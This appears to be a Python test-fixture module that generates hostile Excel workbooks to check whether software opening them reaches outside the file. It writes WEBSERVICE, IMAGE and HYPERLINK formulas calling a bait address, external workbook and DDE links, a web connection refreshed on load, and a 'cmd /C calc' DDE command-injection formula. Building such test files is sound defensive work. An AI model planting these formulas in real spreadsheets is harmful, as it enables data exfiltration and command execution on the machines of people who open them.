"""Workbooks whose formulas and links lead outside."""

import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

from openpyxl import Workbook

from tests.hostile.bait import Bait
from tests.hostile.word import OFFICE, relationships

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def formulas(folder: Path, bait: Bait) -> Path:
    """Formulas that ask the web, other files, and other programs."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row, formula in enumerate(
        (
            f'=_xlfn.WEBSERVICE("{bait.address}/service")',
            f'=_xlfn.WEBSERVICE("{bait.file}")',
            f'=_xlfn.IMAGE("{bait.address}/image.png")',
            f"='{bait.file}'#$Sheet1.A1",
            f"=INDIRECT(\"'{bait.file}'#$Sheet1.A1\")",
            f"='{bait.path.parent}/[{bait.path.name}]Sheet1'!A1",
            f'=DDE("soffice","{bait.path}","A1")',
            "=cmd|' /C calc'!A0",
            f'=HYPERLINK("{bait.address}/click","click")',
        ),
        start=1,
    ):
        sheet.cell(row, 1, formula)
    path = folder / "formulas.xlsx"
    book.save(path)
    return path


def external_books(folder: Path, bait: Bait) -> Path:
    """Links to other workbooks, to a data source of the web that is renewed on opening, and to a program."""
    plain = formulas(folder, bait)
    path = folder / "books.xlsx"
    references = "".join(f'<externalReference xmlns:r="{OFFICE}" r:id="rId9{number}"/>' for number in range(3))
    book = (
        f'<externalLink xmlns="{_MAIN}"><externalBook xmlns:r="{OFFICE}" r:id="rId1"><sheetNames>'
        '<sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
    )
    program = (
        f'<externalLink xmlns="{_MAIN}"><ddeLink ddeService="soffice" ddeTopic="{bait.path}"><ddeItems>'
        '<ddeItem name="A1" advise="1"/></ddeItems></ddeLink></externalLink>'
    )
    connections = (
        f'<connections xmlns="{_MAIN}"><connection id="1" name="w" type="4" refreshOnLoad="1" refreshedVersion="4">'
        f'<webPr xml="1" sourceData="1" url="{bait.address}/connection"/></connection></connections>'
    )
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w") as made:
        for name in source.namelist():
            made.writestr(name, _changed(name, source.read(name).decode(), references))
        for number, target in enumerate(bait.targets):
            made.writestr(f"xl/externalLinks/externalLink{number}.xml", book)
            link = relationships(("rId1", "externalLinkPath", target))
            made.writestr(f"xl/externalLinks/_rels/externalLink{number}.xml.rels", link)
        made.writestr("xl/externalLinks/externalLink2.xml", program)
        made.writestr("xl/connections.xml", connections)
    return path


def _changed(name: str, content: str, references: str) -> str:
    if name == "xl/workbook.xml":
        return content.replace("<calcPr", f"<externalReferences>{references}</externalReferences><calcPr")
    if name == "xl/_rels/workbook.xml.rels":
        links = "".join(
            f'<Relationship Id="rId9{number}" Type="{OFFICE}/externalLink" '
            f'Target="externalLinks/externalLink{number}.xml"/>'
            for number in range(3)
        )
        web = f'<Relationship Id="rId99" Type="{OFFICE}/connections" Target="connections.xml"/>'
        return content.replace("</Relationships>", f"{links}{web}</Relationships>")
    return content


SHEETS: Mapping[str, Callable[[Path, Bait], Path]] = {
    "excel: formulas": formulas,
    "excel: other books": external_books,
}
